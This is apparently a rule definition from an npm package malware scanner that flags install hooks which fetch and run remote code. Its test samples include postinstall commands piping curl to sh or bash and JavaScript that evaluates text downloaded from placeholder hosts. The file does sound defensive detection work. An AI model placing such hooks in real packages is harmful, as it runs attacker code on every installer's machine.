import type { Rule } from '../rule';

export const hookRemoteCode: Rule = {
  code: 'hook-remote-code',
  ecosystem: 'npm',
  kind: 'install-hook',
  severity: 'critical',
  verdict: 'malicious',
  tactic: 'execution',
  capabilities: ['network', 'subprocess', 'dynamic-code'],
  languages: ['javascript', 'python', 'shell', 'gyp'],
  summary: 'An install hook runs or evaluates what it fetches.',
  message: 'runs what it fetches',
  pattern: { where: 'hooks', any: ['remote-shell'], or: [{ any: ['dynamic-code'], together: ['network'] }] },
  samples: {
    hits: [
      {
        what: 'fetched text evaluated (eslint-scope)',
        format: 'tarball',
        manifest: { scripts: { postinstall: 'node ./lib/build.js' } },
        files: {
          'lib/build.js':
            'const https = require("https"); function fetchIt(url, then) { https.get(url, (r) => { let d = ""; r.on("data", (c) => (d += c)); r.on("end", () => then(d)); }); } fetchIt("https://paste.invalid/raw", (text) => eval(text));',
        },
        verdict: 'malicious',
      },
      {
        what: 'the same two files further',
        format: 'tarball',
        manifest: { scripts: { postinstall: 'npm run setup', setup: 'node a' } },
        files: {
          'a.js': 'require("./lib/b")',
          'lib/b/index.js':
            'const https = require("https"); function fetchIt(url, then) { https.get(url, (r) => { let d = ""; r.on("data", (c) => (d += c)); r.on("end", () => then(d)); }); } fetchIt("https://x.invalid", (t) => new Function(t)());',
        },
        verdict: 'malicious',
      },
      {
        what: 'a shell pipe',
        format: 'tarball',
        manifest: { scripts: { postinstall: 'curl -s https://x.invalid/i | bash' } },
        verdict: 'malicious',
      },
      {
        what: 'every hook is looked at',
        format: 'tarball',
        manifest: {
          scripts: { preinstall: 'echo', install: 'echo', postinstall: 'curl https://x.invalid | sh' },
        },
        verdict: 'malicious',
      },
      {
        what: 'a script of npm run',
        format: 'tarball',
        manifest: {
          scripts: {
            install: 'npm run -s step',
            step: 'node-gyp rebuild',
            poststep: 'curl https://x.invalid | sh',
          },
        },
        verdict: 'malicious',
      },
    ],
    ignores: [
      {
        what: 'fetched text that is parsed',
        format: 'tarball',
        manifest: { scripts: { postinstall: 'node a.js' } },
        files: {
          'a.js':
            'const https = require("https"); function fetchIt(url, then) { https.get(url, (r) => { let d = ""; r.on("data", (c) => (d += c)); r.on("end", () => then(d)); }); } fetchIt("https://x.invalid/tags.json", (text) => console.log(JSON.parse(text).latest));',
        },
        why: 'Data that is read as data runs nothing.',
        speaks: ['hook-network'],
      },
    ],
  },
};
